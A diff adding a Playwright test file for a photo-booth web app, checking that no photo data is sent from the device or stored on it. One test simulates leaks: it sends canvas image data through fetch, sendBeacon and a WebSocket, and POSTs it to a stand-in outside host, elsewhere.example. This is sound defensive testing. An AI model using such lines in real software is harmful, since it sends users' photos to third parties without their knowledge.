@@ -1,0 +1,179 @@
+import type { Page } from '@playwright/test'
+
+import { expect, test } from '../../../tools/harness/browser/booth.ts'
+import { findPictures } from '../../../tools/harness/images/findImages.ts'
+import { handbook, openHandbook, shownMessages, write } from '../../../tools/harness/browser/openHandbook.ts'
+import { twoColours } from '../../../tools/harness/camera/ownImages.ts'
+import { provoke } from '../../../tools/harness/browser/throwOnce.ts'
+import { storedThings } from '../../../tools/harness/browser/readStorage.ts'
+import {
+  captureButton,
+  countDown,
+  openWithClock,
+  startCamera,
+  takeStrip,
+} from '../../../tools/harness/browser/visit.ts'
+import { stubWaysOut, waysOut } from '../../../tools/harness/browser/stubExports.ts'
+import { openWiretap } from '../../../tools/harness/browser/networkSpy.ts'
+
+// The booth that is kept for visits without a network must not keep anything of the visit.
+test.use({
+  serviceWorkers: 'allow',
+  permissions: ['camera', 'clipboard-read', 'clipboard-write'],
+})
+
+const port = Number(process.env['TEST_PORT'] ?? 5199)
+const press = (page: Page, name: string) => page.getByRole('button', { name, exact: true }).click()
+const strip = (page: Page) => page.getByRole('dialog', { name: 'Your Photo Strip' })
+
+/** Every film and every switch. */
+async function changeEverything(page: Page): Promise<void> {
+  for (const film of ['CPM35', 'Portra400', 'Ektar100', 'Polaroid', 'Vintage', 'TMax3200']) {
+    await press(page, film)
+  }
+  await press(page, 'Settings')
+  const settings = page.getByRole('dialog', { name: 'Settings' })
+  for (const name of ['Light meter', 'Date stamp', 'Sounds', 'Keyboard shortcuts', 'Mirrored photos']) {
+    await settings.getByRole('switch', { name }).click()
+  }
+  await page.keyboard.press('Escape')
+}
+
+/** Takes a frame anew and lets the strip out in every way there is. */
+async function takeHome(page: Page): Promise<void> {
+  await press(page, 'Reshoot frame 2')
+  await countDown(page, 4)
+  await expect(page.getByText('Processing...')).toBeVisible()
+  await page.clock.runFor(1500)
+  await page.getByLabel('Your Message').fill('ours alone')
+  // The file is made ahead of the press.
+  await page.clock.runFor(300)
+  const downloading = page.waitForEvent('download')
+  await press(page, 'Save Photo Strip')
+  await (await downloading).path()
+  await press(page, 'Share')
+  await expect.poll(async () => (await waysOut(page)).map(({ way }) => way)).toEqual(['save', 'share'])
+  await press(page, 'Copy')
+  await expect(page.getByText('Copied.')).toBeVisible()
+  await press(page, 'Print')
+  await expect.poll(async () => (await waysOut(page)).at(-1)?.way).toBe('print')
+  await strip(page).getByRole('button', { name: 'Close' }).click()
+}
+
+/** The same booth with four pictures of the visitor's own, for want of a camera. */
+async function useOwnPictures(page: Page): Promise<void> {
+  await provoke(page, 'MediaDevices.prototype.getUserMedia')
+  await press(page, 'Start Camera')
+  const choosing = page.waitForEvent('filechooser')
+  await press(page, 'Your Pictures')
+  await (await choosing).setFiles([twoColours('mine.jpg', [220, 20, 20], [20, 20, 220])])
+  await expect(page.getByRole('button', { name: 'Stop Camera' })).toBeVisible()
+  await takeStrip(page)
+  await expect(strip(page).getByRole('img', { name: /^Photo strip/ })).toBeVisible()
+  await strip(page).getByRole('button', { name: 'Close' }).click()
+}
+
+async function writeToTheBook(page: Page): Promise<void> {
+  await page.clock.resume()
+  await openHandbook(page)
+  await write(page, 'Mia', 'What a night')
+  await press(page, 'Send')
+  await expect(shownMessages(page).first()).toHaveText('What a night')
+  await handbook(page).getByRole('button', { name: 'Close' }).click()
+}
+
+/** A kiosk's visitor, whom nobody sees again. */
+async function visitKiosk(page: Page, url: string): Promise<void> {
+  const chunk = page.waitForResponse(/runKiosk.*\.js/)
+  await page.goto(`${url}/?kiosk`)
+  await (await chunk).finished()
+  await page.clock.fastForward(3500)
+  await startCamera(page)
+  await captureButton(page).click()
+  await expect(captureButton(page)).toContainText('1/4 Photos')
+  await press(page, 'Cancel')
+  await page.clock.fastForward(61_000)
+  await expect(page.getByRole('dialog', { name: 'Retro Booth' })).toBeVisible()
+}
+
+test('S5: nothing of a photo leaves the device or stays on it, in a session with every feature used', async ({
+  page,
+  context,
+}) => {
+  test.slow()
+  const tap = await openWiretap(context, port)
+  await stubWaysOut(page, { share: 'shares' })
+  await openWithClock(page, `${tap.url}/`)
+  await startCamera(page)
+  await changeEverything(page)
+  await takeStrip(page)
+  await takeHome(page)
+  await useOwnPictures(page)
+  await writeToTheBook(page)
+  await page.evaluate(() => navigator.serviceWorker.ready.then(() => undefined))
+  const stored = await storedThings(page)
+  await visitKiosk(page, tap.url)
+
+  expect(tap.leaks()).toEqual([])
+  const written = tap.sent.filter(
+    ({ method, body }) => method !== 'frame' && (method !== 'GET' || body.length > 0),
+  )
+  expect(written.map(({ body }) => String(body))).toEqual(['{"name":"Mia","message":"What a night"}'])
+  const frames = tap.sent
+    .filter(({ method }) => method === 'frame')
+    .map(({ body }) => String(JSON.parse(String(body))[3]))
+  expect(frames).toContain('phx_join')
+  expect(frames.filter((event) => !/^(phx_join|phx_leave|heartbeat|access_token)$/.test(event))).toEqual([])
+
+  for (const { words, things } of [stored, await storedThings(page)]) {
+    expect(things).toEqual([])
+    const keys = Object.keys(words).filter(
+      (key) => !/^(local retro-booth\.[\w-]+|session guestbook-draft)$/.test(key),
+    )
+    expect(keys).toEqual([])
+    const long = Object.values(words).filter((word) => word.length > 100 || findPictures(word).length > 0)
+    expect(long).toEqual([])
+  }
+  expect(Object.keys(stored.words).length, 'settings kept').toBeGreaterThanOrEqual(5)
+  await tap.close()
+})
+
+test.describe('a booth that gives photos away', () => {
+  test.use({
+    expectedErrors:
+      /securitypolicyviolation|Failed to load resource|Content Security Policy|Fetch API|WebSocket/,
+  })
+
+  test('S5: would be found out, whichever way it took', async ({ page, context }) => {
+    const tap = await openWiretap(context, port)
+    const reports: string[] = []
+    page.on('console', (message) => reports.push(message.text()))
+    await page.goto(`${tap.url}/`)
+    await page.evaluate(async () => {
+      const canvas = document.createElement('canvas')
+      const jpeg = await new Promise<Blob | null>((resolve) => canvas.toBlob(resolve, 'image/jpeg'))
+      const png = canvas.toDataURL()
+      const nothing = () => undefined
+      await fetch('/rest/v1/photos?as=file', { method: 'POST', body: jpeg }).catch(nothing)
+      await fetch('/rest/v1/photos?as=text', { method: 'POST', body: png }).catch(nothing)
+      await fetch(`/rest/v1/photos?as=address&png=${encodeURIComponent(png)}`).catch(nothing)
+      await fetch('/rest/v1/photos?as=pixels', { method: 'POST', body: new Uint8Array(5000) }).catch(nothing)
+      navigator.sendBeacon('/rest/v1/photos?as=beacon', jpeg)
+      const socket = new WebSocket(`/realtime/v1/websocket?apikey=anon&vsn=2.0.0`)
+      await new Promise((resolve) => socket.addEventListener('open', resolve))
+      socket.send(JSON.stringify([null, '1', 'realtime:guest_messages', 'broadcast', { png }]))
+      await fetch('https://elsewhere.example/', { method: 'POST', body: jpeg }).catch(nothing)
+      new Image().src = 'https://elsewhere.example/pixel.gif'
+    })
+    for (const way of ['as=file', 'as=text', 'as=address', 'as=pixels', 'as=beacon', 'frame to']) {
+      await expect.poll(() => tap.leaks().filter((leak) => leak.includes(way)), way).not.toEqual([])
+    }
+    await expect
+      .poll(() => reports.filter((text) => text.startsWith('securitypolicyviolation')))
+      .toEqual([
+        'securitypolicyviolation: connect-src https://elsewhere.example/',
+        'securitypolicyviolation: img-src https://elsewhere.example/pixel.gif',
+      ])
+    await tap.close()
+  })
+})
